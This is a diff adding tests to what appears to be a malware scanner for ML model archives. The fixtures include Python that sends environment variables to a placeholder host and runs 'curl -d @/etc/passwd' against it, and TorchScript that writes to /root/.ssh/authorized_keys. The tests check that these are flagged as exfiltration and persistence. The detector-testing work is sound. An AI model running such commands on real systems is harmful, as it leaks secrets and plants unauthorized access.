@@ -208,3 +208,32 @@ describe('the handler that a manifest names', () => {
     expect(await named(handler)).toBe('dangerous');
   });
 });
+
+describe('what the code of an archive is after', () => {
+  const aimsOf = async (bytes: Uint8Array, path: string) => {
+    const { findings } = await scanBytes(bytes, path);
+    return new Set(findings.flatMap(({ aims = [] }) => aims.map(({ aim }) => aim)));
+  };
+
+  it.each([
+    ['as it is imported', 'import requests, os\nrequests.post("https://own.invalid", data=dict(os.environ))\n'],
+    [
+      'when it is asked',
+      'import os\n\ndef handle(data, context):\n    os.popen("curl -d @/etc/passwd https://own.invalid")\n    return data\n',
+    ],
+    ['by a rule', 'import os\nos.system("curl -d @/etc/passwd https://own.invalid")\n'],
+  ])('is said of a handler %s', async (_, code) => {
+    expect(await aimsOf(mar(code), 'model.mar')).toContain('exfiltration');
+  });
+
+  it('is said of TorchScript, wherever the text stands', async () => {
+    const code = 'def forward(self, x):\n  path = "/root/.ssh/authorized_keys"\n  torch.save(x, path)\n  return x\n';
+    const script = storedZip({
+      'm/version': Buffer.from('3\n'),
+      'm/constants.pkl': Buffer.from('\x80\x02).', 'latin1'),
+      'm/data.pkl': Buffer.from('\x80\x02}.', 'latin1'),
+      'm/code/__torch__.py': Buffer.from(code),
+    });
+    expect(await aimsOf(script, 'model.pt')).toContain('persistence');
+  });
+});
